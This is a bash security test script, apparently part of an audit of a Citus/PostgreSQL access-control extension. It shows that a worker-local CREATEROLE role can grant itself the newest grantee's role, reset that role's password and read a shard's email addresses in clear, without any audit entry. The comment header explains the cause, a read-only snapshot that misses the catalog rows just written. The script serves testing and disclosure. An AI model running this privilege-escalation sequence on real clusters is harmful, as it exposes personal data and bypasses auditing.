#!/usr/bin/env bash
# 44 — Citus: a CREATEROLE role on one worker takes over the newest grantee.
#
# Tries: a role with CREATEROLE made on worker1 only (wdba, no superuser)
# acts on the role that was just given a grant on the coordinator: GRANT it
# to itself, ALTER ROLE ... PASSWORD / SET search_path, then SET ROLE to it
# and reads the shard in clear. On one server the role guard refuses all of
# it for any role that holds a grant (security label "grantee").
# Secure outcome: refused on every node, as on the coordinator.
# Result: FINDING (H). apply_catalog() (pg/replica/citus_catalog.cpp)
#   labels the grantees it reads with SPI_execute(..., read_only = true)
#   right after writing the new catalog in the same function: the read-only
#   snapshot does not see the rows just written, so the grantee of the
#   newest change is not labelled on the workers (until another catalog
#   change arrives, which may be days). Meanwhile a worker-local CREATEROLE
#   role grants itself that role (or changes its password and logs in as
#   it) on that worker and reads its lists in clear; nothing is recorded.
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
read -r shard node < <(shard_of 10)
at "$node" -c "SET citus.enable_ddl_propagation = off" -c "DROP ROLE IF EXISTS wdba" -c "CREATE ROLE wdba LOGIN CREATEROLE" >/dev/null 2>&1
v=victim$RANDOM
at coordinator -v ON_ERROR_STOP=1 >/dev/null <<SQL
CREATE ROLE $v LOGIN;
GRANT USAGE ON SCHEMA listguard TO $v;
GRANT SELECT ON subs TO $v;
SELECT listguard.grant_access('$v', 1, reveal => 'clear', reason => 'new hire');
SQL
for n in coordinator worker1 worker2; do
    echo "$n: label of $v: $(at $n -c "SELECT coalesce(string_agg(label, ','), 'none') FROM pg_shseclabel WHERE objoid = '$v'::regrole")"
done
before=$(at coordinator -c "SELECT max(id) FROM listguard.audit_log")
echo "on the coordinator, a CREATEROLE role: $(at coordinator -c "CREATE ROLE cdba LOGIN CREATEROLE" -c "SET ROLE cdba" -c "GRANT $v TO cdba" 2>&1 | grep -m1 ERROR)"
echo "on $node as wdba: GRANT $v TO wdba: $(at "$node" -U wdba -c "SET citus.enable_ddl_propagation = off" -c "GRANT $v TO wdba" 2>&1 | head -1)"
echo "on $node as wdba: ALTER ROLE $v PASSWORD: $(at "$node" -U wdba -c "SET citus.enable_ddl_propagation = off" -c "ALTER ROLE $v PASSWORD 'taken'" 2>&1 | head -1)"
got=$(at "$node" -U wdba -c "SET ROLE $v" -c "SELECT count(*) FILTER (WHERE email::text LIKE 'member%@example.com') FROM $shard" 2>&1 | tail -1)
echo "wdba, SET ROLE $v, clear addresses read from $shard: $got"
sleep 3
echo "audit events since on the coordinator: $(at coordinator -c "SELECT coalesce(string_agg(kind || '/' || coalesce(origin, 'coord'), ', '), 'none') FROM listguard.audit_log WHERE id > $before")"
at coordinator -c "DROP ROLE IF EXISTS cdba" >/dev/null 2>&1
[ "${got:-0}" -gt 0 ] 2>/dev/null && echo "RESULT: FINDING (H): worker-local CREATEROLE took over grantee $v ($got clear)" || echo "RESULT: held"
